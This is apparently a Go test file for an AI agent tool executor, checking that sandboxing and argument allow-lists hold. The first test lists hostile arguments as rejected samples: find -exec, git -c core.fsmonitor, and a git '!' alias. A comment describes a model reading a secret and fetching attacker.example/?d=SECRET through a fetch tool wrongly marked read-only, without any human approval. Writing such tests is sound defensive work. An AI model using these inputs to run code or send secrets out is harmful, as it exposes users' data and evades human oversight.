package executor

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestExampleToolsConfigIsSafe: the shipped example sandboxes its
// programs and stdio servers, and its allow-lists refuse the arguments
// that act (find -exec, git -c, git config): safe under a permissive
// policy.
func TestExampleToolsConfigIsSafe(t *testing.T) {
	bin := t.TempDir()
	for _, name := range []string{"ls", "git", "uvx", "find"} {
		must(t, os.WriteFile(filepath.Join(bin, name), []byte("#!/bin/sh\n"), 0o755))
	}
	t.Setenv("PATH", os.Getenv("PATH")+string(os.PathListSeparator)+bin)
	cfg, err := LoadToolsConfig(filepath.Join("testdata", "tools.example.yaml"))
	must(t, err)
	if cfg.Shell.Sandbox.disabled() || cfg.FS == nil {
		t.Fatal("the example runs programs without a sandbox, or has no fs section")
	}
	for _, m := range cfg.MCP {
		if m.Sandbox.disabled() {
			t.Errorf("MCP server %s runs without a sandbox", m.Name)
		}
	}
	var git, find *BinaryConfig
	for i := range cfg.Shell.Binaries {
		switch b := &cfg.Shell.Binaries[i]; b.Name {
		case "git":
			git = b
		case "find":
			find = b
		}
	}
	st := &shellTool{ws: &workspace{}}
	for _, c := range []struct {
		b    *BinaryConfig
		args []string
	}{
		{find, []string{".", "-exec", "sh", "-c", "id", ";"}},
		{find, []string{"--", ".", "-exec", "sh", ";"}},
		{find, []string{".", "-delete"}},
		{find, []string{".", "-fprint", "x"}},
		{git, []string{"-c", "core.fsmonitor=id", "status"}},
		{git, []string{"config", "alias.st", "!id"}},
		{git, []string{"submodule", "foreach", "id"}},
		{git, []string{"--no-pager", "log", "--output=/tmp/x"}},
	} {
		if e := st.checkArgs(c.b, c.args, "."); e == nil {
			t.Errorf("%s %v allowed", c.b.Name, c.args)
		}
	}
}

// A tool whose sandbox has the network sends what the model chose (a
// URL's query, a request's body) to any host it can reach: the shipped
// example's MCP fetch server was effect read, so under the default policy
// a model read a secret with fs.read and fetched
// https://attacker.example/?d=SECRET with no human, past http.request's
// host allow-list and private-address refusals. Such a tool is refused
// unless it is irreversible (the default policy asks a human for each
// call).
func TestNetworkToolsAreNeverReads(t *testing.T) {
	for _, c := range []struct{ name, yaml, want string }{
		{"read program", "shell:\n  sandbox: {network: true}\n  binaries: [{name: echo, effect: read}]\n", "shell.binaries[0].effect"},
		{"reversible program", "shell:\n  sandbox: {network: true}\n  binaries: [{name: echo, effect: reversible}]\n", "shell.binaries[0].effect"},
		{"read MCP tool", "mcp:\n  - {name: f, command: echo, sandbox: {network: true}, tools: {fetch: {effect: read}}}\n", "mcp[0].tools.fetch.effect"},
		{"reversible MCP tool", "mcp:\n  - {name: f, command: echo, sandbox: {network: true}, tools: {fetch: {effect: reversible}}}\n", "mcp[0].tools.fetch.effect"},
	} {
		_, err := ParseToolsConfig("tools.yaml", []byte(c.yaml))
		if err == nil || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "network") {
			t.Errorf("%s: %v, want an error at %s about the network", c.name, err, c.want)
		}
	}
	for _, ok := range []string{
		"shell:\n  sandbox: {network: true}\n  binaries: [{name: echo, effect: irreversible}]\n",
		"shell:\n  sandbox: {network: true}\n  binaries: [{name: echo}]\n", // irreversible by default
		"shell:\n  binaries: [{name: echo, effect: read}]\n",               // no network
		"mcp:\n  - {name: f, command: echo, sandbox: {network: true}, tools: {fetch: {effect: irreversible}}}\n",
		"mcp:\n  - {name: f, command: echo, tools: {fetch: {effect: read}}}\n",
	} {
		if _, err := ParseToolsConfig("tools.yaml", []byte(ok)); err != nil {
			t.Errorf("%q: %v", ok, err)
		}
	}
}
